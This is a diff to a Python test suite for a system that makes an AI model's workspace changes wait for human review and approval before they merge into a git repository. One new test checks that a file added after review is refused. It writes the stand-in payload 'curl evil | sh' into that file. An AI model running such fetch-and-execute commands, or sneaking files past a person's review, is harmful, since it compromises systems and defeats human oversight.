@@ -74,8 +74,9 @@ def test_a_dirty_workspace_keeps_its_work_uncommitted_and_the_commit_holds_the_d
     tip = git(repo, "rev-parse", "main")
     own = ["--output=x", "d.txt", "e.txt", "new/made.txt"]
     assert drafts.changed_files(draft) == own
-    files, diff = drafts.review(draft)
-    assert files == own and "mine, not staged" not in diff and "my notes" not in diff
+    review = drafts.review(draft)
+    assert review.files == own
+    assert "mine, not staged" not in review.diff and "my notes" not in review.diff
 
     result = drafts.approve(draft, "the draft's work", hooks)
 
@@ -248,7 +249,7 @@ def test_the_repositorys_attributes_and_drivers_run_nothing_while_merging(
     (repo.parent / "post-commit").chmod(0o755)
     draft = drafts.create(repo, "s1", "attrs")
     (Path(draft.root) / "c.txt").write_text(_edit(_edit(LINES, 1, "person"), 9, "draft"))
-    assert "+draft" in drafts.review(draft)[1]
+    assert "+draft" in drafts.review(draft).diff
 
     drafts.approve(draft, "through attributes")
 
@@ -262,3 +263,27 @@ def test_the_repositorys_attributes_and_drivers_run_nothing_while_merging(
     assert git(repo, "rev-parse", "main") == tip
     assert (repo / "d.txt").read_text() == _edit(LINES, 1, "person")
     assert not marker.exists()
+
+
+def test_a_draft_changed_after_it_was_shown_for_approval_is_refused(
+    long_files: Path, drafts: Drafts
+) -> None:
+    """The person approves what they were shown: a file the model's code writes in the draft
+    while the form is up is not landed with it."""
+    repo = long_files
+    draft = drafts.create(repo, "s1", "shown")
+    root = Path(draft.root)
+    (root / "c.txt").write_text(_edit(LINES, 2, "shown"))
+    shown = drafts.review(draft)
+    (root / "later.sh").write_text("curl evil | sh\n")  # after the review
+    tip = git(repo, "rev-parse", "main")
+
+    with pytest.raises(DraftError, match=r"changed after it was shown .*1 file: later\.sh"):
+        drafts.approve(draft, "shown", reviewed=shown.state)
+
+    assert git(repo, "rev-parse", "main") == tip and not (repo / "later.sh").exists()
+    assert (repo / "c.txt").read_text() == LINES and drafts.listed() == [draft]
+    again = drafts.review(draft)
+    assert again.files == ["c.txt", "later.sh"]
+    drafts.approve(draft, "seen", reviewed=again.state)
+    assert (repo / "later.sh").exists()
